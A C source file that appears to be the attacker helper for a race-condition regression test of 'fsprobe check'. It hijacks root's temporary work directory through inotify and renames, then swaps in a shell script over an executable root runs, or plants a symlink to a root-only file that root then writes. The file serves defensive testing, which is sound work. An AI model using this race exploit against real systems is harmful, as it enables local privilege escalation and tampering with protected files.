// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Description: the hostile local user of tests/r-check-race.sh (issue
 * 30), run unprivileged against root's `fsprobe check DIR` where DIR is
 * the user's. It watches DIR with inotify, renames root's fresh
 * .fsprobe-PID away (a rename in a directory one owns needs no right on
 * what is moved) and makes a directory of its own under that name; then
 *   exec:  once the cold run of the exec-text payload shows in /proc,
 *          renames a shell script over exec-text in it (the script
 *          writes `id` to ARG): a warmed run by path would execute it;
 *   write: after root's K-th open of write-open.text, puts a symlink to
 *          ARG (a root-only file) in its place: an open by path would
 *          follow it and write there.
 * Usage: check-racer exec|write DIR ARG TIMEOUT_S [K]
 * Exit 0 once its swap is in place, 1 if it never got the chance within
 * TIMEOUT_S (root's directory or file never showed), 2 on an error.
 * It says "watching DIR" on stdout once its watch is in place, then
 * what it took, and what it did there, on one line.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define TEXT "write-open.text"
#define EXEC "exec-text"

static long long deadline_ms;

static long long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000LL + ts.tv_nsec / 1000000;
}

/*
 * The next inotify event on fd for which want(name, mask) holds, its
 * name into out; 0, or 1 at the deadline.
 */
static int next_event(int fd, int (*want)(const char *, unsigned int),
		      char *out, size_t len)
{
	char buf[4096] __attribute__((aligned(8)));
	struct pollfd p = { .fd = fd, .events = POLLIN };

	while (now_ms() < deadline_ms) {
		ssize_t n, off = 0;

		if (poll(&p, 1, 100) <= 0)
			continue;
		n = read(fd, buf, sizeof(buf));
		while (n > 0 && off < n) {
			struct inotify_event *e = (void *)(buf + off);

			off += sizeof(*e) + e->len;
			if (e->len && want(e->name, e->mask)) {
				snprintf(out, len, "%s", e->name);
				return 0;
			}
		}
	}
	return 1;
}

static int is_workdir(const char *name, unsigned int mask)
{
	return (mask & IN_ISDIR) && !strncmp(name, ".fsprobe-", 9);
}

static int is_exec_copy(const char *name, unsigned int mask)
{
	(void)mask;
	return !strcmp(name, EXEC);
}

static int is_text_open(const char *name, unsigned int mask)
{
	return (mask & IN_OPEN) && !strcmp(name, TEXT);
}

/* Root's directory renamed away, ours in its place; its path in mine. */
static int steal(const char *dir, char *mine, size_t len)
{
	char name[NAME_MAX + 1], away[PATH_MAX + NAME_MAX + 16];
	int fd = inotify_init1(IN_CLOEXEC), ret;

	if (fd < 0 || inotify_add_watch(fd, dir, IN_CREATE) < 0)
		return 2;
	printf("watching %s\n", dir);
	ret = next_event(fd, is_workdir, name, sizeof(name));
	close(fd);
	if (ret)
		return 1;
	snprintf(mine, len, "%s/%s", dir, name);
	snprintf(away, sizeof(away), "%s/stolen%s", dir, name);
	if (rename(mine, away) || mkdir(mine, 0777) || chmod(mine, 0777)) {
		printf("could not take %s: %s\n", mine, strerror(errno));
		return 1;
	}
	/* Said now: the test kills us when check ends. */
	printf("took %s (root's moved to %s);", mine, away);
	fflush(stdout);
	return 0;
}

/* Does a process run with argv[0] path? (cmdline is world-readable) */
static int running(const char *path)
{
	char f[300], buf[PATH_MAX];
	struct dirent *de;
	int found = 0;
	DIR *d = opendir("/proc");

	while (d && !found && (de = readdir(d))) {
		ssize_t n;
		int fd;

		if (de->d_name[0] < '1' || de->d_name[0] > '9')
			continue;
		snprintf(f, sizeof(f), "/proc/%s/cmdline", de->d_name);
		fd = open(f, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		if (n > 0) {
			buf[n] = '\0';
			found = !strcmp(buf, path);
		}
	}
	if (d)
		closedir(d);
	return found;
}

static int attack_exec(const char *mine, const char *out)
{
	char name[NAME_MAX + 1], path[PATH_MAX + 64], tmp[PATH_MAX + 64];
	int fd = inotify_init1(IN_CLOEXEC);
	FILE *f;

	if (fd < 0 || inotify_add_watch(fd, mine, IN_CREATE | IN_MOVED_TO) < 0)
		return 2;
	if (next_event(fd, is_exec_copy, name, sizeof(name)))
		return 1;
	close(fd);
	snprintf(path, sizeof(path), "%s/%s", mine, EXEC);
	while (!running(path))
		if (now_ms() > deadline_ms)
			return 1;
	snprintf(tmp, sizeof(tmp), "%s/.script", mine);
	f = fopen(tmp, "w");
	if (!f)
		return 2;
	fprintf(f, "#!/bin/sh\nid > '%s'\n", out);
	if (fclose(f) || chmod(tmp, 0755) || rename(tmp, path))
		return 2;
	printf(" script renamed over %s while its cold run ran\n", path);
	return 0;
}

static int attack_write(const char *mine, const char *victim, int k)
{
	char name[NAME_MAX + 1], path[PATH_MAX + 64], tmp[PATH_MAX + 64];
	int fd = inotify_init1(IN_CLOEXEC), i;

	if (fd < 0 || inotify_add_watch(fd, mine, IN_OPEN) < 0)
		return 2;
	for (i = 0; i < k; i++)
		if (next_event(fd, is_text_open, name, sizeof(name)))
			return 1;
	close(fd);
	snprintf(path, sizeof(path), "%s/%s", mine, TEXT);
	snprintf(tmp, sizeof(tmp), "%s/.link", mine);
	if (symlink(victim, tmp) || rename(tmp, path))
		return 2;
	printf(" %s -> %s after root's open %d\n", path, victim, k);
	return 0;
}

int main(int argc, char **argv)
{
	char mine[PATH_MAX];
	int ret;

	if (argc < 5 || (strcmp(argv[1], "exec") && strcmp(argv[1], "write"))) {
		fprintf(stderr, "usage: %s exec|write DIR ARG TIMEOUT_S [K]\n",
			argv[0]);
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	deadline_ms = now_ms() + atoi(argv[4]) * 1000LL;
	ret = steal(argv[2], mine, sizeof(mine));
	if (ret)
		return ret;
	if (!strcmp(argv[1], "exec"))
		ret = attack_exec(mine, argv[3]);
	else
		ret = attack_write(mine, argv[3], argc > 5 ? atoi(argv[5]) : 3);
	if (ret == 1)
		printf(" root never used it\n");
	return ret;
}
